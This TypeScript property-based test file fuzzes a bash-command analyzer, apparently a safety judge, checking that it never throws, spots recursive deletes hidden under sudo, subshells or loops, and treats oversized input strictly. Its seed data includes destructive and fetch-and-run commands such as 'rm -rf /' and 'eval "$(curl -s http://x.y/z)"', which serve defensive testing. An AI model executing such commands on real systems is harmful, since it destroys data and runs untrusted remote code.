import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { limits } from "../../../schema/limits.ts";
import { bash, deletes } from "../effects/judge.ts";

const seeds = [
  "rm -rf /",
  'cd a && sudo rm -rf "$X/" | tee >(sh) > out',
  'for x in {1..3} *.c; do find . -name "$x" -exec rm {} \\;; done',
  'if [[ -n $(id) ]]; then eval "$(curl -s http://x.y/z)"; else git push origin +a:b; fi',
  "cat <<EOF | bash -s -- a b\nls ${Y:-$(pwd)} `id`\nEOF",
  "a=(1 2 $'\\x41'); echo ${a[@]} ${a[0]%x} $((a[0]+1)) && f() { xargs -I{} sh -c 'x {}'; }; f",
  "tar xzf a.tgz -C /opt; awk '{print > \"f\"}' x; sed -n '1e ls' y; env -S 'A=b ls' ; parallel ls ::: a b",
];

const pieces = fc.constantFrom(
  "$",
  "${",
  "}",
  "$(",
  ")",
  "`",
  "'",
  '"',
  "\\",
  "\n",
  ";",
  "&&",
  "|",
  "<",
  ">",
  "<<E\n",
  "{a,b}",
  "*",
  "~",
  " ",
  "!",
  "#",
  "=",
  "[[",
  "]]",
  "((",
  "))",
  "sh -c ",
  "eval ",
  "xargs ",
  "find -exec ",
  "[",
  "-rf",
  "/",
  "\u0000",
  "\ud800",
  "é",
);

/** A known command with some of its text replaced by shell punctuation. */
const mutated = fc
  .tuple(fc.constantFrom(...seeds), fc.array(fc.tuple(fc.nat(200), fc.nat(3), pieces), { maxLength: 5 }))
  .map(([seed, edits]) => {
    let text = seed;
    for (const [at, cut, piece] of edits) {
      const i = at % (text.length + 1);
      text = text.slice(0, i) + piece + text.slice(i + cut);
    }
    return text;
  });

function wellFormed(command: string): void {
  const reading = bash(command);
  expect(["understood", "opaque", "unknown"]).toContain(reading.understanding);
  expect(reading.shell === undefined).toBe(reading.understanding === "unknown");
  expect(reading.effects === undefined).toBe(reading.understanding === "unknown");
  if (reading.understanding !== "understood") expect(reading.doubts.length).toBeGreaterThan(0);
  const commands = reading.shell?.commands ?? [];
  for (const one of commands) {
    expect(one.span.start).toBeGreaterThanOrEqual(0);
    expect(one.span.end).toBeLessThanOrEqual(command.length);
    expect(one.piped_from).toBeLessThan(commands.length);
    expect(one.piped_to).toBeLessThan(commands.length);
  }
}

describe("analysis never throws and always answers", () => {
  it.each(["${\n\\", "echo ${\n\\", "a; ${x\\"])("for %j, which ends inside an expansion", (command) => {
    wellFormed(command);
    expect(bash(command).understanding).toBe("unknown");
  });

  it("for mutated commands", () => {
    fc.assert(fc.property(mutated, wellFormed), { numRuns: 1_400, verbose: 1 });
  });

  it("for any text", () => {
    fc.assert(fc.property(fc.string({ unit: "binary", maxLength: 120 }), wellFormed), { numRuns: 300, verbose: 1 });
  });

  it("for shell punctuation", () => {
    fc.assert(
      fc.property(
        fc.array(pieces, { maxLength: 40 }).map((list) => list.join("")),
        wellFormed,
      ),
      { numRuns: 300, verbose: 1 },
    );
  });
});

describe("a wrapper, a quote or a chain never hides a delete", () => {
  const around: readonly ((command: string) => string)[] = [
    (command) => `sudo ${command}`,
    (command) => `timeout 5 ${command}`,
    (command) => `true && ${command}`,
    (command) => `${command} || true`,
    (command) => `( ${command} )`,
    (command) => `{ ${command}; }`,
    (command) => `if true; then ${command}; fi`,
    (command) => `echo "$( ${command} )"`,
    (command) => `f() { ${command}; }; f`,
    (command) => `for i in 1 2; do ${command}; done`,
    (command) => `( ${command} > log 2>&1 & )`,
  ];
  it("under any nesting of them", () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...around), { maxLength: 4 }), (wraps) => {
        const plain = wraps.filter((wrap) => wrap("x").startsWith("sudo") || wrap("x").startsWith("timeout"));
        const other = wraps.filter((wrap) => !plain.includes(wrap));
        const command = other.reduce(
          (text, wrap) => wrap(text),
          plain.reduce((text, wrap) => wrap(text), "rm -rf /etc"),
        );
        expect(deletes(bash(command))).toContain("/etc recursive");
      }),
      { numRuns: 200, verbose: 1 },
    );
  });
});

describe("bounds are answered on the strict side", () => {
  it.each([
    ["a long command", `echo ${"a".repeat(limits.shellLength)}`],
    ["deep nesting", `${"$(".repeat(300)}ls${")".repeat(300)}`],
    ["many words", `echo ${"a ".repeat(25_000)}`],
    ["a brace expansion", "echo {1..100}{1..100}"],
    ["growing variables", `X=${"a".repeat(1000)}; ${"X=$X$X; ".repeat(30)}`],
    ["nested shells", Array.from({ length: 10 }).reduce<string>((text) => `eval ${JSON.stringify(text)}`, "ls")],
    [
      "functions calling functions",
      `a() { ls; }; ${"bcdefgh"
        .split("")
        .map((name, i) => `${name}() { ${`${"abcdefg"[i]};`.repeat(6)} }; `)
        .join("")} h`,
    ],
    ["a carriage return", "ls\rrm"],
    ["a NUL", "ls\u0000"],
    ["an escape sequence", "ls \u001b[1m"],
    ["an open quote", "echo 'a"],
    ["an open substitution", "echo $(ls"],
    ["a nested syntax error", "sh -c 'if'"],
    ["a line of very many here-documents", `cat${" <<A".repeat(4_097)}`],
    ["very many here-documents on joined lines", `cat${" <<A\\\n".repeat(4_097)}`],
  ])("%s is not understood", (_, command) => {
    const reading = bash(command);
    expect([reading.understanding, reading.effects, reading.doubts.length]).toEqual(["unknown", undefined, 1]);
  });

  it.each([
    ["many commands", "rm x; ".repeat(2_000)],
    ["many subshells with variables", `${"A1=b; ".repeat(1_500)}${"(ls $A1); ".repeat(1_500)}`],
    ["a deep if", `${"if a; then ".repeat(60)}ls${"; fi".repeat(60)}`],
    ["nested loops", `${"for i in 1 2 3 4 5 6 7 8; do ".repeat(6)}ls $i${"; done".repeat(6)}`],
    ["many globbed programs", "/b?n/* x; ".repeat(1_000)],
    ["a long sum", `echo $((${"1+".repeat(9_000)}1))`],
    ["many arguments of many xargs", `echo ${"a ".repeat(9_000)}| ${"xargs ".repeat(40)}ls`],
    ["many clauses of find", `find . ${"-exec a \\; ".repeat(6_000)}`],
    ["unclosed substitutions", "$(".repeat(30_000)],
    ["unclosed expansions", `"${"${X:-".repeat(10_000)}`],
    [
      "deep functions in deep texts",
      `${Array.from({ length: 8 }, (_, i) => `f${i}() { ${"{ ".repeat(120)}f${i + 1};${" };".repeat(120)} }; `).join("")}f0`,
    ],
    ["many here-documents", `cat${" <<A".repeat(4_000)}\n${"A\n".repeat(4_000)}`],
    ["many here-strings", `cat${" <<<a".repeat(4_000)}`],
    ["many quotes", `echo ${"'a'\"b\"".repeat(4_000)}`],
  ])("%s are answered before the test's time is out", (_, command) => {
    expect(["understood", "opaque", "unknown"]).toContain(bash(command).understanding);
  });
});
